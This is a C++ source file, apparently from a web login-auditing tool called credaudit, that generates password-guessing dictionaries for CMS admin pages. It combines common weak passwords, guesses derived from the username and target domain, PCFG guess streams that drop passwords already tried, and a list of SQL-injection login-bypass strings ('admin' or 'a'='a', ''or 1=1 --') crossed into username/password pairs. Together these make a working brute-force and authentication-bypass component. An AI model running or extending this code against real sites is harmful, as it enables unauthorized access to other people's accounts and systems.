#include "credaudit/dictionaries.hpp"

#include <algorithm>
#include <array>
#include <fstream>
#include <set>
#include <unordered_set>

#include <nlohmann/json.hpp>

#include "credaudit/url.hpp"

namespace credaudit {
namespace {

// Fixed entries use the literal; "{u}" slots derive from the probed username.
constexpr std::array<const char*, 33> kGeneralTemplate = {
    "{u}",         "123456",      "{u}888",      "12345678",   "123123",
    "88888888",    "888888",      "password",    "123456a",    "{u}123",
    "{u}123456",   "{u}666",      "{u}2018",     "123456789",  "654321",
    "666666",      "66666666",    "1234567890",  "8888888",    "987654321",
    "0123456789",  "12345",       "1234567",     "000000",     "111111",
    "5201314",     "123321",      "yzddmr6.com", "yzddmr6",    "yzddmr6123",
    "yzddmr6888",  "yzddmr6666",  "yzddmr6123456",
};

// Compact public-suffix set: common gTLDs plus the two-level suffixes seen in
// the CMS ecosystem this tool targets. Not the full PSL.
const std::set<std::string>& public_suffixes() {
  static const std::set<std::string> suffixes = {
      "com",    "net",    "org",    "edu",    "gov",    "mil",    "int",
      "info",   "biz",    "name",   "pro",    "xyz",    "top",    "site",
      "online", "club",   "shop",   "vip",    "cc",     "tv",     "me",
      "io",     "co",     "ai",     "app",    "dev",    "cn",     "us",
      "uk",     "de",     "jp",     "fr",     "ru",     "kr",     "hk",
      "tw",     "sg",     "in",     "au",     "ca",     "br",     "it",
      "nl",     "es",     "eu",     "com.cn", "net.cn", "org.cn", "gov.cn",
      "edu.cn", "ac.cn",  "com.hk", "com.tw", "co.uk",  "org.uk", "ac.uk",
      "co.jp",  "ne.jp",  "or.jp",  "co.kr",  "com.au", "com.br", "com.sg",
  };
  return suffixes;
}

std::vector<std::string> split_labels(const std::string& host) {
  std::vector<std::string> labels;
  size_t pos = 0;
  while (pos <= host.size()) {
    auto dot = host.find('.', pos);
    labels.push_back(host.substr(pos, dot == std::string::npos ? std::string::npos : dot - pos));
    if (dot == std::string::npos) break;
    pos = dot + 1;
  }
  return labels;
}

int parse_flag(const nlohmann::json& value, int fallback) {
  if (value.is_number_integer()) return value.get<int>();
  if (value.is_boolean()) return value.get<bool>() ? 1 : 0;
  if (value.is_string()) {
    const std::string s = value.get<std::string>();
    if (s == "1") return 1;
    if (s == "0") return 0;
  }
  return fallback;
}

std::vector<std::string> split_keywords(const std::string& keywords) {
  std::vector<std::string> out;
  size_t pos = 0;
  while (pos <= keywords.size()) {
    auto bar = keywords.find('|', pos);
    std::string kw =
        keywords.substr(pos, bar == std::string::npos ? std::string::npos : bar - pos);
    size_t a = kw.find_first_not_of(" \t");
    size_t b = kw.find_last_not_of(" \t");
    if (a != std::string::npos) out.push_back(kw.substr(a, b - a + 1));
    if (bar == std::string::npos) break;
    pos = bar + 1;
  }
  return out;
}

}  // namespace

std::string to_string(CredentialOrigin o) {
  switch (o) {
    case CredentialOrigin::General: return "general";
    case CredentialOrigin::Dynamic: return "dynamic";
    case CredentialOrigin::Pcfg: return "pcfg";
    case CredentialOrigin::Universal: return "universal";
    case CredentialOrigin::Hint: return "hint";
  }
  return "?";
}

std::vector<CmsRule> rules_from_json(const std::string& json_text) {
  nlohmann::json doc;
  try {
    doc = nlohmann::json::parse(json_text);
  } catch (const nlohmann::json::exception& e) {
    throw std::runtime_error(std::string("malformed rules JSON: ") + e.what());
  }
  if (!doc.is_array()) throw std::runtime_error("rules file must hold a JSON array");
  std::vector<CmsRule> rules;
  for (const auto& item : doc) {
    CmsRule r;
    r.name = item.value("name", "");
    r.keywords = item.value("keywords", "");
    r.captcha = item.contains("captcha") ? parse_flag(item.at("captcha"), 0) : 0;
    r.exp_able = item.contains("exp_able") ? parse_flag(item.at("exp_able"), 1) : 1;
    r.success_flag = item.value("success_flag", "");
    r.fail_flag = item.value("fail_flag", "");
    r.alert = item.contains("alert") ? parse_flag(item.at("alert"), 0) : 0;
    r.note = item.value("note", "");
    rules.push_back(std::move(r));
  }
  return rules;
}

std::vector<CmsRule> load_rules(const std::string& path) {
  std::ifstream in(path);
  if (!in) throw std::runtime_error("cannot open rules file: " + path);
  std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  try {
    return rules_from_json(text);
  } catch (const std::exception& e) {
    throw std::runtime_error(path + ": " + e.what());
  }
}

const CmsRule* match_rule(const std::vector<CmsRule>& rules, const std::string& page_text) {
  const std::string low = ascii_lower(page_text);
  for (const auto& rule : rules) {
    for (const auto& kw : split_keywords(rule.keywords)) {
      if (!kw.empty() && low.find(ascii_lower(kw)) != std::string::npos) return &rule;
    }
  }
  return nullptr;
}

std::vector<Credential> general_dict(const std::string& username) {
  std::vector<Credential> out;
  for (const char* entry : kGeneralTemplate) {
    std::string pw(entry);
    auto brace = pw.find("{u}");
    if (brace != std::string::npos) {
      if (username.empty()) continue;  // nothing to derive from
      pw.replace(brace, 3, username);
    }
    out.push_back({username, pw, CredentialOrigin::General});
  }
  return out;
}

std::optional<std::string> registrable_domain(const std::string& host) {
  std::string h = ascii_lower(host);
  if (h.empty() || is_ipv4_literal(h) || h.find(':') != std::string::npos) return std::nullopt;
  auto labels = split_labels(h);
  if (labels.size() < 2) return std::nullopt;
  const auto& psl = public_suffixes();
  if (psl.count(h)) return std::nullopt;  // the host IS a public suffix

  // longest matching suffix of the label list
  for (size_t take = std::min<size_t>(labels.size() - 1, 2); take >= 1; --take) {
    std::string candidate;
    for (size_t i = labels.size() - take; i < labels.size(); ++i) {
      if (!candidate.empty()) candidate += '.';
      candidate += labels[i];
    }
    if (psl.count(candidate))
      return labels[labels.size() - take - 1] + "." + candidate;
  }
  return std::nullopt;
}

std::vector<std::string> dynamic_dict(const std::string& target_url,
                                      const std::vector<std::string>& suffixes) {
  std::string host;
  if (auto url = parse_url(target_url)) {
    host = url->host;
  } else {
    host = ascii_lower(target_url);  // accept a bare hostname too
  }
  auto domain = registrable_domain(host);
  if (!domain) return {};

  std::vector<std::string> out;
  out.push_back(*domain);
  std::string suffix_part = domain->substr(domain->find('.') + 1);
  auto suffix_labels = split_labels(suffix_part);
  auto labels = split_labels(host);
  labels.resize(labels.size() - suffix_labels.size());  // drop the public suffix

  for (const auto& label : labels) {
    if (label.empty() || label == "www") continue;
    out.push_back(label);
    for (const auto& s : suffixes) out.push_back(label + s);
  }
  return out;
}

const std::vector<std::string>& universal_payloads() {
  static const std::vector<std::string> payloads = {
      "admin' or 'a'='a",
      "'or'='or'",
      "admin' or '1'='1' or 1=1",
      "')or('a'='a",
      "'or 1=1 --",
  };
  return payloads;
}

std::vector<Credential> universal_dict(const CmsRule* rule) {
  if (rule && rule->exp_able == 0) return {};
  std::vector<Credential> out;
  for (const auto& u : universal_payloads())
    for (const auto& p : universal_payloads())
      out.push_back({u, p, CredentialOrigin::Universal});
  return out;
}

AdjustedDictionary adjust_dictionary(const PcfgGrammar& grammar, const HintSet& hints,
                                     const std::vector<AttemptRecord>& history,
                                     double hint_boost) {
  PcfgGrammar adjusted = with_hints(grammar, hints.keywords(), hint_boost);
  AdjustedDictionary out{GuessStream(adjusted), false};
  for (const auto& rec : history) {
    if (rec.kind == AttemptKind::Dictionary || rec.kind == AttemptKind::Universal ||
        rec.kind == AttemptKind::Probe)
      out.stream.exclude(rec.password);
    if (rec.cause && *rec.cause == FailureCauseKind::UsernameNonexistent)
      out.request_username_probe = true;
  }
  return out;
}

}  // namespace credaudit
